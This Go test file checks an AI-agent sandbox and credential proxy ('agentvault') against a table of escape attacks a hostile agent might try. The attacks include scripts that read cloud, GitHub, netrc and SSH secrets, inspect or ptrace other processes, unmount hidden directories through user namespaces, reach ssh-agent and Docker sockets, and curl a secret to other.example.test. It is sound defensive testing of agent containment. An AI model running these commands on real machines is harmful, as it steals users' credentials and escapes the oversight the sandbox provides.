package e2e

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// verdict is what an attack achieved: open (it got what it was after) or
// blocked. skip: the attack is not run in that mode (it would send traffic
// off this machine, or means nothing there).
type verdict string

const (
	open    verdict = "open"
	blocked verdict = "blocked"
	skip    verdict = ""
)

// attack is one thing a hostile agent tries. script is a sh snippet run by
// the child; it records its verdict with `v KEY open|blocked`. host and
// isolated are the expected verdicts in each mode; docs/isolation.md holds
// the same table with the reasons.
type attack struct {
	key            string
	script         string
	host, isolated verdict
}

// probePy is the attacks that need a system call sh does not offer. argv[1]
// names the attack; it prints open or blocked (with the error).
const probePy = `
import ctypes, os, socket, sys

def holder_environ():
    # Another process of the user (the shell or CI step that started
    # agentvault) holds a secret in its environment.
    for d in os.listdir("/proc"):
        if d.isdigit() and int(d) != os.getpid():
            try:
                with open("/proc/%s/environ" % d, "rb") as f:
                    if b"AGENTVAULT_E2E_HOLDER=" in f.read():
                        return True
            except OSError:
                pass
    return False

def find_agentvault():
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % d, "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        if len(argv) > 1 and argv[0].endswith(b"agentvault") and argv[1] == b"run":
            return int(d)
    return None

def signal_agentvault():
    pid = find_agentvault()
    if pid is None:
        raise OSError("no agentvault process in /proc")
    os.kill(pid, 0)
    return True

def parent_mem():
    fd = os.open("/proc/%d/mem" % int(os.environ["AVPID"]), os.O_RDONLY)
    os.close(fd)
    return True

def parent_ptrace():
    pid = int(os.environ["AVPID"])
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    os.waitpid(pid, 0)
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return True

def udp_outside():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"ping", ("127.0.0.1", int(os.environ["UDP_PORT"])))
    return s.recv(16) == b"pong"

def unix_at(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(path)
    return s.recv(16) == b"unix-hello"

attacks = {
    "holder_environ": holder_environ,
    "find_agentvault": lambda: find_agentvault() is not None,
    "signal_agentvault": signal_agentvault,
    "parent_mem": parent_mem,
    "parent_ptrace": parent_ptrace,
    "udp_outside": udp_outside,
    "unix_outside": lambda: unix_at(os.environ["UNIX_OPEN"]),
    "unix_hidden": lambda: unix_at(os.environ["UNIX_HIDDEN"]),
    "unix_abstract": lambda: unix_at("\0" + os.environ["UNIX_ABSTRACT"]),
    "ssh_agent": lambda: unix_at(os.environ["SSH_AUTH_SOCK"]),
    "engine_socket": lambda: unix_at(os.path.join(os.environ["XDG_RUNTIME_DIR"], "docker.sock")),
    "session_bus": lambda: unix_at(os.path.join(os.environ["XDG_RUNTIME_DIR"], "bus")),
}
try:
    print("open" if attacks[sys.argv[1]]() else "blocked")
except Exception as e:
    print("blocked", type(e).__name__, str(e)[:200])
`

// scriptHead precedes the attacks: v records a verdict, s is the secret
// the child could read, AVPID its parent (agentvault in host mode, the
// sandbox's init under --isolate).
const scriptHead = `v() { k=$1; shift; echo "$*" > "$OUT/v.$k"; }
s=$(cat "$LEAK_FILE")
AVPID=$PPID; export AVPID
`

// isolationAttacks is the table. root: the tests run as root, who may read
// any process's memory in host mode (CAP_SYS_PTRACE).
func isolationAttacks(root bool) []attack {
	rootOpen := blocked
	if root {
		rootOpen = open
	}
	py := func(key string) string { return fmt.Sprintf(`v %s "$("$PY" "$PROBE" %s 2>&1)"`, key, key) }
	status := func(key, curlArgs string) string {
		return fmt.Sprintf(`c=$(curl -sS --max-time 10 -o /dev/null -w '%%{http_code}' %s 2> "$ERRS/%s.err"); [ "$c" = 200 ] && v %s open || v %s "blocked $c"`,
			curlArgs, key, key, key)
	}
	return []attack{
		// Other processes.
		{key: "holder_environ", script: py("holder_environ"), host: open, isolated: blocked},
		{key: "find_agentvault", script: py("find_agentvault"), host: open, isolated: blocked},
		{key: "signal_agentvault", script: py("signal_agentvault"), host: open, isolated: blocked},
		{key: "parent_mem", script: py("parent_mem"), host: rootOpen, isolated: blocked},
		{key: "parent_ptrace", script: py("parent_ptrace"), host: rootOpen, isolated: blocked},
		// Files.
		{key: "hidden_files", script: `cat ~/.aws/credentials ~/.netrc ~/.vault-token ~/.config/gh/hosts.yml 2>/dev/null | grep -q host- && v hidden_files open || v hidden_files blocked`,
			host: open, isolated: blocked},
		{key: "planted_link", script: `ln -s "$HOME/.aws/credentials" ./planted-link && grep -q host- ./planted-link && v planted_link open || v planted_link blocked`,
			host: open, isolated: blocked},
		{key: "proc_root", script: `grep -q host- "/proc/self/root$HOME/.aws/credentials" 2>/dev/null && v proc_root open || v proc_root blocked`,
			host: open, isolated: blocked},
		// With and without a uid map in the new namespace.
		{key: "userns_umount", script: `uncover='umount "$HOME/.aws"; umount -l "$HOME/.aws"; cat "$HOME/.aws/credentials"'
{ unshare -Urm sh -c "$uncover"; unshare -Um sh -c "$uncover"; } 2>/dev/null | grep -q host- && v userns_umount open || v userns_umount blocked`,
			host: open, isolated: blocked},
		// Network around the proxy.
		{key: "tcp_outside", script: status("tcp_outside", `--noproxy '*' "http://127.0.0.1:$TCP_PORT/ok/direct"`), host: open, isolated: blocked},
		{key: "udp_outside", script: py("udp_outside"), host: open, isolated: blocked},
		{key: "unix_abstract", script: py("unix_abstract"), host: open, isolated: blocked},
		// Not stopped: a filesystem socket needs no network.
		{key: "unix_outside", script: py("unix_outside"), host: open, isolated: open},
		{key: "unix_hidden", script: py("unix_hidden"), host: open, isolated: blocked},
		// Sockets that hold the user's keys or are root on the host, hidden
		// by default: an ssh agent, a container engine, the session bus
		// (the desktop keyring).
		{key: "ssh_agent", script: py("ssh_agent"), host: open, isolated: blocked},
		{key: "engine_socket", script: py("engine_socket"), host: open, isolated: blocked},
		{key: "session_bus", script: py("session_bus"), host: open, isolated: blocked},
		{key: "ssh_key", script: `grep -q host- ~/.ssh/id_ed25519 2>/dev/null && v ssh_key open || v ssh_key blocked`,
			host: open, isolated: blocked},
		// The secret (readable here through the credential's file:) sent
		// elsewhere through the proxy: the leak guard, in both modes.
		{key: "leak_header", script: status("leak_header", `-H "X-Token: $s" https://other.example.test/ok/leak-header`), host: blocked, isolated: blocked},
		{key: "leak_connect_name", script: status("leak_connect_name", `"https://$s.example.test/ok/leak-name"`), host: blocked, isolated: blocked},
		// The same around the proxy variables: in host mode these would ask
		// the system's resolver (the name, with the secret, leaves the
		// machine); in the sandbox, transparent mode routes them to the
		// proxy's guards.
		{key: "transparent_sni", script: status("transparent_sni", `--noproxy '*' "https://$s.example.test/ok/leak-sni"`), host: skip, isolated: blocked},
		{key: "transparent_header", script: status("transparent_header", `--noproxy '*' -H "X-Token: $s" https://other.example.test/ok/leak-theader`), host: skip, isolated: blocked},
		{key: "transparent_plain", script: status("transparent_plain", `--noproxy '*' "http://other.example.test/ok/leak-tplain?t=$s"`), host: skip, isolated: blocked},
	}
}

// TestIsolateAdversarial runs the attacks of host mode's adversarial tests,
// and those only isolation can stop, once without and once with --isolate,
// and compares each verdict with the table. An attack expected to succeed in
// host mode must succeed there: that proves the probe works, so its failure
// under isolation is isolation's doing.
func TestIsolateAdversarial(t *testing.T) {
	needBinary(t)
	needTestTool(t, "curl")
	needTestTool(t, "unshare")
	if pythonExe == "" {
		skipOutsideCI(t, "python3 not found")
	}
	work := t.TempDir()
	probe := writeFile(t, work, "probe.py", probePy)

	secret := newSecret(t, "leak")
	secretFile := writeFile(t, work, "token", secret+"\n")
	leakHost := secret + ".example.test"

	home := filepath.Join(work, "home")
	for dir, files := range map[string]map[string]string{
		".aws":       {"credentials": "aws_secret_access_key = host-aws-secret\n"},
		".config/gh": {"hosts.yml": "oauth_token: host-gh-token\n"},
		".":          {".netrc": "machine example.test password host-netrc\n", ".vault-token": "host-vault-token\n"},
		".ssh":       {"id_ed25519": "host-ssh-key\n"},
	} {
		if err := os.MkdirAll(filepath.Join(home, dir), 0o700); err != nil {
			t.Fatal(err)
		}
		for name, content := range files {
			writeFile(t, filepath.Join(home, dir), name, content)
		}
	}

	up := newUpstream(t, true)
	plain := newUpstream(t, false)
	udpPort := udpPong(t)
	unixOpen := unixHello(t, filepath.Join(work, "open.sock"))
	unixHidden := unixHello(t, filepath.Join(work, "hidden.sock"))
	abstract := "agentvault-e2e-" + newSecret(t, "abstract")[:12]
	unixHello(t, "@"+abstract)
	runtime := filepath.Join(work, "run")
	if err := os.MkdirAll(runtime, 0o700); err != nil {
		t.Fatal(err)
	}
	sshAgent := unixHello(t, filepath.Join(work, "ssh-agent.sock"))
	unixHello(t, filepath.Join(runtime, "docker.sock"))
	unixHello(t, filepath.Join(runtime, "bus"))
	holder(t)

	cfg := fmt.Sprintf(`version: 1
credentials:
  - name: api
    secret: file:%s
    hosts: [api.example.test]
    inject: bearer
    env: [API_TOKEN]
egress:
  inspect: all
`, secretFile)
	attacks := isolationAttacks(os.Geteuid() == 0)
	env := map[string]string{
		"HOME": home, "LEAK_FILE": secretFile, "PY": pythonExe, "PROBE": probe,
		"TCP_PORT": fmt.Sprint(plain.Port), "UDP_PORT": fmt.Sprint(udpPort),
		// The child knows the secret here, so what curl says about its
		// attempts goes outside $OUT, which must never hold it.
		"ERRS":      t.TempDir(),
		"UNIX_OPEN": unixOpen, "UNIX_HIDDEN": unixHidden, "UNIX_ABSTRACT": abstract,
		"SSH_AUTH_SOCK": sshAgent, "XDG_RUNTIME_DIR": runtime,
	}
	connect := []string{connectTo("api.example.test", 443, up.Port), connectTo("other.example.test", 443, up.Port),
		connectTo("other.example.test", 80, plain.Port), connectTo(leakHost, 443, up.Port)}

	for _, mode := range []struct {
		name     string
		isolated bool
	}{{"host", false}, {"isolated", true}} {
		t.Run(mode.name, func(t *testing.T) {
			o := sessionOpts{config: cfg, env: env, connect: connect, dir: t.TempDir()}
			var sh strings.Builder
			for _, a := range attacks {
				if want(a, mode.isolated) != skip {
					sh.WriteString(a.script + "\n")
				}
			}
			o.script = scriptHead + sh.String()
			if mode.isolated {
				o.flags = []string{"--isolate"}
				o.config += fmt.Sprintf("isolate:\n  hide: [%q]\n", unixHidden)
			}
			s := runSession(t, o)
			if s.code != 0 {
				t.Fatalf("exit %d\n%s", s.code, clip(s.stderr))
			}
			for _, a := range attacks {
				w := want(a, mode.isolated)
				if w == skip {
					continue
				}
				got := strings.TrimSpace(s.file("v." + a.key))
				t.Logf("%s: %s", a.key, got)
				if verdict(strings.Fields(got + " ")[0]) != w {
					t.Errorf("%s: %q, want %s", a.key, got, w)
				}
			}
			for _, r := range append(up.requests(), plain.requests()...) {
				if strings.Contains(r.Host+r.Path+r.RawQuery+fmt.Sprint(r.Header)+r.Body, secret) {
					t.Errorf("a request carried the secret to %s%s", r.Host, redact(r.Path, secret, ""))
				}
			}
			s.assertNoSecret(t, secret)
		})
	}
}

func want(a attack, isolated bool) verdict {
	if isolated {
		return a.isolated
	}
	return a.host
}

// udpPong answers "pong" to every datagram on a 127.0.0.1 port, until the
// test ends.
func udpPong(t *testing.T) int {
	t.Helper()
	c, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	go func() {
		buf := make([]byte, 64)
		for {
			_, addr, err := c.ReadFrom(buf)
			if err != nil {
				return
			}
			c.WriteTo([]byte("pong"), addr)
		}
	}()
	return c.LocalAddr().(*net.UDPAddr).Port
}

// unixHello listens on a Unix socket (a path, or "@name" for an abstract
// one) and greets every connection with "unix-hello", until the test ends.
func unixHello(t *testing.T, addr string) string {
	t.Helper()
	ln, err := net.Listen("unix", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Write([]byte("unix-hello"))
			c.Close()
		}
	}()
	return addr
}

// holder is a process of the same user whose environment holds a secret, as
// the shell or CI step that started agentvault may.
func holder(t *testing.T) {
	t.Helper()
	cmd := exec.Command("sleep", "120")
	cmd.Env = []string{"AGENTVAULT_E2E_HOLDER=holder-secret"}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Kill()
		if err := cmd.Wait(); err != nil && !errors.As(err, new(*exec.ExitError)) {
			t.Error(err)
		}
	})
}

// TestIsolateWebSocketReflection: an upstream that reflects the real key
// into WebSocket frames and the close reason reaches the isolated agent's Go
// client with the placeholder only, as in host mode.
func TestIsolateWebSocketReflection(t *testing.T) {
	needBinary(t)
	secret := newSecret(t, "api")
	port, handshakes := wsReflector(t)
	s := runSession(t, sessionOpts{
		config:  apiConfig,
		env:     map[string]string{"TEST_API_TOKEN": secret},
		flags:   []string{"--isolate"},
		connect: []string{connectTo("api.example.test", 443, port)},
		script: fmt.Sprintf(`'%s' wsread 'wss://api.example.test/ws-reflect' hello "$OUT/wsread.json" 2> "$OUT/wsread.err"`+"\n",
			goClientBin),
	})
	if s.code != 0 {
		t.Fatalf("exit %d; client: %s; agentvault: %s", s.code, s.file("wsread.err"), clip(s.stderr))
	}
	ph := s.placeholder(t, "API_TOKEN")
	select {
	case hs := <-handshakes:
		if hs.Get("Authorization") != "Bearer "+secret {
			t.Fatalf("upstream handshake Authorization = %q, want Bearer <secret>", redact(hs.Get("Authorization"), secret, ph))
		}
	default:
		t.Fatal("upstream saw no handshake")
	}
	got := s.file("wsread.json")
	if !strings.Contains(got, "auth=Bearer "+ph) || !strings.Contains(got, "bye Bearer "+ph) {
		t.Errorf("the child did not get the reflection with its placeholder: %.300s", redact(got, secret, ph))
	}
	s.assertNoSecret(t, secret)
	s.assertNoPlaceholder(t, ph)
}
